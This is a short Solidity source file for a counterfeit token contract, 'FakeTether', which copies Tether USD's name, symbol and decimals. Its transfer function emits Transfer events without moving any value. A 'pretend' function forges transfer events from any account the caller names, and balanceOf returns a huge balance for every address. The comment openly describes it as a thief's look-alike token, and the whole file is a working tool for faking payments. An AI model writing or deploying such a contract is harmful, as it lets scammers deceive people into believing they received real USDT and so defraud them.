// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

/// Look-alike token of a thief: it has the name, the symbol and the events of USDT, and every account has any amount of it.
contract FakeTether {
    string public constant name = "Tether USD";
    string public constant symbol = "USDT";
    uint8 public constant decimals = 6;

    event Transfer(address indexed from, address indexed to, uint256 value);

    function transfer(address to, uint256 value) external returns (bool) {
        emit Transfer(msg.sender, to, value);
        return true;
    }

    /// Emits an event of a payment by another account.
    function pretend(address from, address to, uint256 value) external {
        emit Transfer(from, to, value);
    }

    function balanceOf(address) external pure returns (uint256) {
        return type(uint128).max;
    }
}
